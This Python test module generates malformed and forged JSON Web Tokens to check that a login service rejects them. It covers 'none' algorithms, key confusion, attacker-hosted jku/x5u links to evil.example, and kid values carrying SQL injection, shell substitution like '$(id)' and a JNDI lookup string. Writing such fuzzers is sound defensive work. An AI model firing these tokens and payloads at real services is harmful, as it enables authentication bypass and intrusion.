"""Tokens that no service may accept (RFC 8725), made for one service."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import get_default_algorithms

from tests.jwt.conftest import as_json, base64, private_key, signed

ISSUER, AUDIENCE = "https://login.shop.example", "https://api.shop.example"
BIG = 1_000_000
Named = Iterator[tuple[str, str]]


class Target(NamedTuple):
    """What a hostile token is made for: a service's algorithm, its key, and a kind of token."""

    algorithm: str
    key: Any
    kid: str | None
    kind: str

    @property
    def header(self) -> dict[str, Any]:
        """Give the header of a good token."""
        return {"alg": self.algorithm, "typ": "JWT"} | ({"kid": self.kid} if self.kid else {})

    @property
    def claims(self) -> dict[str, Any]:
        """Give the claims of a good token."""
        now = int(time.time())
        return {
            "sub": "ann",
            "jti": "j-1",
            "sid": "s-1",
            "type": self.kind,
            "fresh": True,
            "iss": ISSUER,
            "aud": AUDIENCE,
            "iat": now,
            "nbf": now,
            "auth_time": now,
            "exp": now + 600,
        }

    def token(self, header: object = None, claims: object = None) -> str:
        """Sign by the service's own key; bytes are signed as they are."""
        return self.by(self.algorithm, self.key, header, claims)

    def by(self, algorithm: str, key: Any, header: object = None, claims: object = None) -> str:
        """Sign by any key."""
        parts = (self.header if header is None else header, claims or self.claims)
        raw = [part if isinstance(part, bytes) else as_json(part) for part in parts]
        return signed(algorithm, key, *raw)

    def with_header(self, **members: object) -> str:
        """Sign a token whose header has other members."""
        return self.token({**self.header, **members})

    def with_claims(self, **claims: object) -> str:
        """Sign a token with other claims; ``...`` leaves one out."""
        changed = {**self.claims, **claims}
        return self.token(claims={name: it for name, it in changed.items() if it is not ...})


def hostile(target: Target) -> Named:
    """Make all of them, each with what it is."""
    for made in (
        *(unsigned, confused, wrong_algorithm, embedded_keys, key_ids, headers, types),
        *(parties, times, claims, encoding, structure, documents, sizes, signatures, short_keys),
    ):
        for name, token in made(target):
            yield f"{made.__name__}: {name}", token


def unsigned(target: Target) -> Named:
    """Say that there is no signature, in all spellings."""
    payload = base64(as_json(target.claims))
    mac = target.token().rpartition(".")[2]
    for alg in ("none", "None", "NONE", "nOnE", "noNe", "none ", " none", "", None, 0, False, []):
        for name, signature in (("empty", ""), ("kept", mac), ("one byte", "AA")):
            header = base64(as_json({**target.header, "alg": alg}))
            yield f"{alg!r} {name}", f"{header}.{payload}.{signature}"
    for name, header in (("no alg", {"typ": "JWT"}), ("no header", {})):
        yield name, f"{base64(as_json(header))}.{payload}."
        yield f"{name}, signed", target.token(header)


def confused(target: Target) -> Named:
    """Use what is public of a key as a secret."""
    for name, raw in public_bytes(target):
        for alg in ("HS256", "HS384", "HS512"):
            for named in (target.header, {"typ": "JWT"}):
                token = target.by(alg, raw, {**named, "alg": alg}) if raw else None
                if token is not None:
                    yield f"{alg} {name} {'kid' in named}", token


def public_bytes(target: Target) -> Iterator[tuple[str, bytes]]:
    """Give what an attacker may know of the keys of a service."""
    yield "kid", (target.kid or "a name of the key").encode()
    if target.algorithm == "HS256":
        return
    public = target.key.public_key()
    spki = PublicFormat.SubjectPublicKeyInfo
    jwk = get_default_algorithms()[target.algorithm].to_jwk(public, as_dict=True)
    text = public.public_bytes(Encoding.PEM, spki)
    yield "PEM", text
    yield "PEM without its last newline", text.rstrip()
    yield "PEM with CRLF", text.replace(b"\n", b"\r\n")
    yield "PEM's inner text", b"".join(text.splitlines()[1:-1])
    yield "DER", public.public_bytes(Encoding.DER, spki)
    yield "JWK", as_json(jwk)
    yield "JWK, spaced", json.dumps(jwk).encode()
    yield "JWK set", as_json({"keys": [jwk]})
    if target.algorithm == "RS256":
        yield "PKCS1 PEM", public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        yield "PKCS1 DER", public.public_bytes(Encoding.DER, PublicFormat.PKCS1)
        yield "modulus", public.public_numbers().n.to_bytes(256, "big")
    if target.algorithm == "ES256":
        yield "point", public.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    if target.algorithm == "EdDSA":
        yield "raw", public.public_bytes(Encoding.Raw, PublicFormat.Raw)


def wrong_algorithm(target: Target) -> Named:
    """Name other algorithms than the key's, by its signature or by an attacker's."""
    others = "HS256 HS384 HS512 RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES384 ES512 ES256K "
    for alg in (others + "EdDSA Ed25519 Ed448 A128KW dir RSA-OAEP").split():
        if alg != target.algorithm:
            yield f"{alg} by the service's key", target.token({**target.header, "alg": alg})
    for spelling in (target.algorithm.lower(), f"{target.algorithm} ", f" {target.algorithm}"):
        if spelling != target.algorithm:
            yield f"{spelling!r}", target.token({**target.header, "alg": spelling})
    yield "a list", target.token({**target.header, "alg": [target.algorithm]})
    for alg in ("HS256", "RS256", "ES256", "EdDSA"):
        key = private_key(alg, 9)
        yield f"{alg} by an attacker", target.by(alg, key, {**target.header, "alg": alg})
        yield f"{alg}, no kid", target.by(alg, key, {"alg": alg, "typ": "JWT"})
        yield f"{alg}, said to be ours", target.by(alg, key)


def embedded_keys(target: Target) -> Named:
    """Bring the key along."""
    key = private_key("RS256", 9)
    jwk = get_default_algorithms()["RS256"].to_jwk(key.public_key(), as_dict=True)
    jwk = {name: it for name, it in jwk.items() if name != "key_ops"}
    link = "https://evil.example/jwks.json"
    for name, value in {
        "jwk": jwk, "jku": link, "x5u": link, "x5c": ["MIIB"], "x5t": "AAAA", "x5t#S256": "AAAA",
    }.items():  # fmt: skip
        forged = {**target.header, "alg": "RS256", name: value}
        yield f"{name} by an attacker", target.by("RS256", key, forged)
        yield f"{name}, no kid", target.by("RS256", key, {"alg": "RS256", name: value})
        yield f"{name} by the service", target.with_header(**{name: value})
    yield "jwk that is empty", target.with_header(jwk={})
    yield "jwk that is null", target.with_header(jwk=None)


def key_ids(target: Target) -> Named:
    """Name keys by what could lead somewhere else."""
    ids: list[object] = [
        "../../../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", "..", "",
        "x' UNION SELECT 'AAAA' -- ", "' OR '1'='1", "1; DROP TABLE keys", "key\x00", "\x00",
        "| cat /etc/passwd", "$(id)", "https://evil.example/k", "${jndi:ldap://evil.example}",
        "k" * 4000, "\u202egnp.key", None, 0, 1, True, 1.5, [], [target.kid], {}, {"$ne": 1},
        "__proto__", "constructor", "*", "%2e%2e%2f", "\ud800",
    ]  # fmt: skip
    if target.kid:
        ids += [target.kid.swapcase(), f"{target.kid} ", f" {target.kid}", target.kid[:-1]]
    for value in ids:
        name = repr(value)[:40]
        yield f"{name} by the service", target.with_header(kid=value)
        forged = {"alg": "HS256", "kid": value}
        yield f"{name} by nothing", target.by("HS256", b"\x00" * 32, forged)
        yield f"{name} by AAAA", target.by("HS256", b"AAAA", forged)


def headers(target: Target) -> Named:
    """Ask for extensions of JWS, which none is known of."""
    for crit in (["exp"], ["b64"], ["http://evil.example"], [], "exp", None, {}, 0, ["alg", "alg"]):
        yield f"crit {crit!r}", target.with_header(crit=crit)
    for b64 in (False, True, None, 0, "false"):
        yield f"b64 {b64!r}", target.with_header(b64=b64)
        yield f"b64 {b64!r}, critical", target.with_header(b64=b64, crit=["b64"])
    yield "zip", target.with_header(zip="DEF")
    yield "enc", target.with_header(enc="A128GCM")
    first = f"{base64(as_json({**target.header, 'b64': False, 'crit': ['b64']}))}"
    raw = f"{first}.{as_json(target.claims).decode()}"
    mac = get_default_algorithms()[target.algorithm].sign(raw.encode(), target.key)
    yield "a payload that is not encoded", f"{raw}.{base64(mac)}"


def types(target: Target) -> Named:
    """Pass one kind of token off as another."""
    other = "refresh" if target.kind == "access" else "access"
    for kind in (
        *(other, target.kind.upper(), target.kind.title(), f"{target.kind} ", "id", "ID", ""),
        *(None, 1, True, [target.kind], {target.kind: 1}, ...),
    ):
        yield f"type {kind!r}", target.with_claims(type=kind)
    identity = {"nonce": "n-1", "at_hash": "x", "azp": AUDIENCE, "email_verified": True}
    yield "an ID token", target.with_claims(type=..., jti=..., fresh=..., **identity)
    for typ in ("logout+jwt", "dpop+jwt", "JWE", "JOSE", "secevent+jwt", "", None, 1, True, [], {}):
        yield f"typ {typ!r}", target.with_header(typ=typ)


def parties(target: Target) -> Named:
    """Name other audiences and issuers, or ours in another way."""
    for claim, ours in (("aud", AUDIENCE), ("iss", ISSUER)):
        for value in (
            *("https://evil.example", ours[:-1], f"{ours}/", f"{ours}.evil.example", ours.upper()),
            *(f" {ours}", f"{ours} ", f"{ours}\x00", ours.replace("https", "http"), "", "*"),
            *([ours], [ours, "other"], ["other"], [], [[ours]], {ours: 1}, {}, None, 0, True, ...),
        ):
            yield f"{claim} {value!r}", target.with_claims(**{claim: value})


def times(target: Target) -> Named:
    """Say when a token is good in every wrong way."""
    now = int(time.time())
    odd = (
        *(None, True, False, "", "soon", str(now + 600), [now + 600], {"t": now}, [], {}),
        *(-1, -1e300, 10**400, 10**18, 2**53),
    )
    for claim in ("exp", "nbf", "iat", "auth_time", "fresh"):
        for value in odd:
            if claim != "fresh" or not isinstance(value, bool):
                yield f"{claim} {str(value)[:20]!r}", target.with_claims(**{claim: value})
        for word in ("NaN", "Infinity", "-Infinity", "1e400", "9" * 5000, "0x7fffffff", "01"):
            raw = as_json({**target.claims, claim: "@"}).replace(b'"@"', word.encode())
            yield f"{claim} {word[:12]}", target.token(claims=raw)
    for value in (0, 1, 0.5, now - 1, now - 0.5, now - 10**6, ...):
        yield f"exp {value!r}", target.with_claims(exp=value)
    for claim in ("nbf", "iat", "auth_time"):
        yield f"{claim} in a minute", target.with_claims(**{claim: now + 60})


def claims(target: Target) -> Named:
    """Leave out who it is and which token it is, or say it oddly."""
    for value in ("", None, 0, 1, True, ["ann"], {"id": "ann"}, ...):
        yield f"sub {value!r}", target.with_claims(sub=value)
    yield "sub with half a character", target.with_claims(sub="\ud800")
    for claim in ("jti", "sid"):
        odd = ("", None, 1, True, [], {}, "x" * 129, "a b", "a\x00", "a\n", "é")
        for value in (*odd, ...) if claim == "jti" else odd:
            yield f"{claim} {str(value)[:9]!r}", target.with_claims(**{claim: value})


def encoding(target: Target) -> Named:
    """Write Base64 that only lenient readers take."""
    parts = target.token().split(".")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    changes: dict[str, Callable[[str], str]] = {
        "padding": lambda it: it + "=" * (-len(it) % 4 or 4),
        "one =": lambda it: it + "=",
        "= inside": lambda it: it[:4] + "=" + it[4:],
        "a space": lambda it: it[:5] + " " + it[5:],
        "a newline": lambda it: it[:5] + "\n" + it[5:],
        "a tab": lambda it: it[:5] + "\t" + it[5:],
        "NUL": lambda it: it[:5] + "\x00" + it[5:],
        "a question mark": lambda it: it[:5] + "?" + it[5:],
        "+": lambda it: it[:4] + "+" + it[5:],
        "/": lambda it: it[:4] + "/" + it[5:],
        "%": lambda it: it[:4] + "%41" + it[5:],
        "beyond ASCII": lambda it: it[:4] + "\xe9" + it[5:],
        "one letter more": lambda it: it + "A",
        "one letter less": lambda it: it[:-1],
        "the last letter next": lambda it: it[:-1] + alphabet[(alphabet.index(it[-1]) + 1) % 64],
        "twice": lambda it: it + it,
        "nothing": lambda it: "",
    }
    for place, name in enumerate(("header", "payload", "signature")):
        for change, apply in changes.items():
            changed = [apply(it) if at == place else it for at, it in enumerate(parts)]
            yield f"{change} in the {name}", ".".join(changed)
    for text in (b'{"alg":"%s"}', b' {"alg":"%s"}', b'  {"alg":"%s"}'):
        header = base64(text.replace(b"%s", target.algorithm.encode()))
        yield f"unused bits {len(header)}", ".".join([loose(header), *parts[1:]])
        payload = base64(as_json({**target.claims, "x": "x" * len(text)}))
        first = f"{parts[0]}.{loose(payload)}"
        mac = get_default_algorithms()[target.algorithm].sign(first.encode(), target.key)
        if loose(payload) != payload:
            yield f"unused bits {len(payload)}, signed", f"{first}.{base64(mac)}"


def loose(text: str) -> str:
    """Set a bit at the end of Base64 that says nothing, where there is one."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    if len(text) % 4 == 0:
        return text
    return text[:-1] + alphabet[alphabet.index(text[-1]) | 1]


def structure(target: Target) -> Named:
    """Give other things than three parts."""
    good = target.token()
    header, payload, mac = good.split(".")
    document = {"payload": payload, "protected": header, "signature": mac}
    general = {"payload": payload, "signatures": [{"protected": header, "signature": mac}]}
    yield from {
        "nothing but dots": "..", "one dot": ".", "many dots": "." * 50, "a word": "token",
        "two parts": f"{header}.{payload}", "one part": header, "no header": f".{payload}.{mac}",
        "four parts": f"{good}.", "four parts, one twice": f"{good}.{mac}",
        "five parts": f"{header}.{payload}.{mac}.{mac}.{mac}", "a part before": f".{good}",
        "the parts in turn": f"{payload}.{header}.{mac}", "null": "null", "undefined": "undefined",
        "detached": f"{header}..{mac}", "flattened JSON": json.dumps(document).replace(" ", ""),
        "general JSON": json.dumps(general).replace(" ", ""), "twice": good + good,
    }.items()  # fmt: skip


def documents(target: Target) -> Named:
    """Sign what is no JSON object, or one that two readers read differently."""
    head, body = as_json(target.header), as_json(target.claims)
    alg = f'"alg":"{target.algorithm}"'.encode()
    odd: dict[str, Callable[[bytes], bytes]] = {
        "a comma at the end": lambda it: it[:-1] + b",}",
        "a comment": lambda it: b"/**/" + it,
        "a byte order mark": lambda it: b"\xef\xbb\xbf" + it,
        "UTF-16": lambda it: it.decode().encode("utf-16"),
        "Latin-1": lambda it: it[:-1] + b',"x":"\xe9"}',
        "single quotes": lambda it: it.replace(b'"', b"'"),
        "a list": lambda it: b"[" + it + b"]",
        "a text": lambda it: json.dumps(it.decode()).encode(),
        "a number": lambda it: b"1",
        "null": lambda it: b"null",
        "two objects": lambda it: it + it,
        "garbage after": lambda it: it + b"x",
        "NUL after": lambda it: it + b"\x00",
        "a control character": lambda it: it[:-1] + b',"x":"\x01"}',
        "half a character": lambda it: it[:-1] + b',"x":"\\ud800"}',
        "too deep": lambda it: it[:-1] + b',"x":' + b"[" * 900 + b"]" * 900 + b"}",
        "much too deep": lambda it: b'{"x":' * 900 + b"1" + b"}" * 900,
        "NaN": lambda it: it[:-1] + b',"x":NaN}',
        "nothing": lambda it: b"{}",
        "half of it": lambda it: it[: len(it) // 2],
    }
    for name, change in odd.items():
        yield f"{name} as header", target.token(change(head))
        yield f"{name} as claims", target.token(claims=change(body))
    yield "alg twice", target.token(head[:-1] + b"," + alg + b"}")
    yield "alg twice, none first", target.token(b'{"alg":"none",' + head[1:])
    yield "alg twice, escaped", target.token(head[:-1] + b',"\\u0061lg":"none"}')
    for name in ("sub", "exp", "aud", "type", "jti", "fresh"):
        again = as_json({name: target.claims[name]})[1:-1]
        yield f"{name} twice", target.token(claims=body[:-1] + b"," + again + b"}")
        yield (
            f"{name} twice, null first",
            target.token(claims=b'{"%s":null,' % name.encode() + body[1:]),
        )
    nested = body[:-1] + b',"x":{"a":1,"a":2}}'
    yield "twice inside", target.token(claims=nested)


def sizes(target: Target) -> Named:
    """Give more than anybody reads."""
    yield "a long claim", target.with_claims(x="x" * 8000)
    yield "a long header", target.with_header(x="x" * 8000)
    yield "1 MB, signed", target.with_claims(x="x" * BIG)
    yield "1 MB header, signed", target.with_header(x="x" * BIG)
    yield "1 MB of A", "A" * BIG
    yield "1 MB of dots", "." * BIG
    yield "1 MB of signature", target.token() + "A" * BIG
    yield "1 MB of brackets", f"{base64(b'[' * BIG)}.e30.AA"
    yield "1 MB of digits", f"{base64(as_json(target.header))}.{base64(b'9' * BIG)}.AA"


def signatures(target: Target) -> Named:
    """Change the signature, or take one of something else."""
    first, _, mac = target.token().rpartition(".")
    other = target.with_claims(sub="bob").rpartition(".")[2]
    raw = get_default_algorithms()[target.algorithm].sign(first.encode(), target.key)
    yield "of another token", f"{first}.{other}"
    for size in (0, 1, len(raw) // 2, len(raw) - 1):
        yield f"the first {size} bytes", f"{first}.{base64(raw[:size])}"
    for name, changed in {
        "zeros": bytes(len(raw)), "ones": b"\xff" * len(raw), "a zero before": b"\x00" + raw,
        "a zero after": raw + b"\x00", "reversed": raw[::-1], "doubled": raw + raw,
        "hexadecimal": raw.hex().encode(), "Base64 twice": mac.encode(),
    }.items():  # fmt: skip
        yield name, f"{first}.{base64(changed)}"
    for at in range(0, len(raw), max(1, len(raw) // 8)):
        flipped = raw[:at] + bytes([raw[at] ^ 1]) + raw[at + 1 :]
        yield f"bit of byte {at}", f"{first}.{base64(flipped)}"
    if target.algorithm == "ES256":
        r, s = int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")
        yield "DER", f"{first}.{base64(encode_dss_signature(r, s))}"
        order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
        for name, pair in {"0, 0": (0, 0), "n, n": (order, order), "0, s": (0, s)}.items():
            both = b"".join(it.to_bytes(32, "big") for it in pair)
            yield name, f"{first}.{base64(both)}"


def short_keys(target: Target) -> Named:
    """Sign by secrets that are guessed first."""
    words = (b"", b"secret", b"password", b"changeme", b"key", b"a" * 31, b"\x00" * 32, b"jwt")
    begin = target.key[:31] if target.algorithm == "HS256" else b"x"
    for word in (*words, begin, b"your-256-bit-secret", b"None", b"null"):
        for header in ({"alg": "HS256"}, {**target.header, "alg": "HS256"}):
            yield f"{word!r} {len(header)}", target.by("HS256", word, header)
